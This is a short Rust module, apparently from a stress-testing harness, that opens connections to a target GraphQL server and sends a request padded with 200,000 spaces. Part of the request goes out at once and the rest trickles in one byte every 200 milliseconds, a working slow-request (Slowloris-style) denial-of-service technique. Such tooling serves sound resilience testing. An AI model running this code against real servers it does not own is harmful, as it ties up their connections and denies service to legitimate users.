//! Requests whose heads and bodies arrive very slowly.

use std::io;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use super::target::Attacker;
use super::wire::{self, Request};

/// Between two bytes.
const PAUSE: Duration = Duration::from_millis(200);

pub(crate) async fn round(attacker: &Attacker, round: usize) -> io::Result<()> {
    let request = Request::graphql(&format!("{{__typename}}{}", " ".repeat(200_000)));
    let bytes = request.bytes("keep-alive");
    let head = bytes.windows(4).position(|window| window == b"\r\n\r\n").unwrap_or_default();
    let at_once = match (attacker.number + round) % 4 {
        0 => 1,
        1 => head,
        2 => head + 4,
        // All but the last 100 bytes.
        _ => bytes.len() - 100,
    };
    let mut stream = wire::connect(attacker.target.address, None).await?;
    stream.write_all(&bytes[..at_once]).await?;
    attacker.target.tally.count("slow");
    for byte in &bytes[at_once..] {
        sleep(PAUSE).await;
        stream.write_all(&[*byte]).await?;
    }
    Ok(())
}
